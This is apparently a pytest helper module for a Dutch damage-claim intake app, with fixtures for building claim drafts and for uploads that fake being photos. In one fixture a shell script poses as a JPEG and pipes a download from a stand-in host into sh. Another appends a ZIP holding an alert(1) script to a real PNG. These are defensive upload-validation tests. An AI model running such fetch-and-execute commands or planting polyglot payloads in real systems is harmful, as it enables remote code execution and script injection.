"""Building drafts through the services, and files that are (not) photos."""

from io import BytesIO

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from schadeloket.intake import services

from .conftest import address_of, jpeg, png


def upload(name: str, data: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type)


def script_as_jpg() -> SimpleUploadedFile:
    return upload("foto.jpg", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")


def polyglot_png() -> SimpleUploadedFile:
    """A real PNG with a ZIP archive appended: a picture to a viewer, an archive to an unzipper."""
    archive = BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.js", "alert(1)")
    return upload("schade.png", png() + archive.getvalue(), "image/png")


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (40, 30), (1, 2, 3))
    exif = Image.Exif()
    exif[0x010F] = "Telefoonmerk"  # Make
    out = BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def through_address(actor, building):
    draft = services.start_or_resume(actor)
    return services.save_address(
        draft, actor=actor, address=building.address, building=building, typed=address_of(building)
    )


def complete_draft(
    actor, building, *, relation="owner", co_owners="no", scheme="AVV", answers=None, photos=0, on_date=None
):
    draft = through_address(actor, building)
    draft = services.save_relation(draft, actor=actor, relation=relation, co_owners=co_owners, on_date=on_date)
    draft = services.save_damage(draft, actor=actor, description="Scheur in de muur van de woonkamer", noticed_on=None)
    for number in range(photos):
        services.add_photo(draft, upload(f"foto-{number}.jpg", jpeg()), actor=actor)
    draft = services.save_questions(draft, actor=actor, answers=answers or {})
    draft = services.mark_compared(draft, actor=actor)
    return services.choose_scheme(draft, actor=actor, scheme_code=scheme, on_date=on_date)
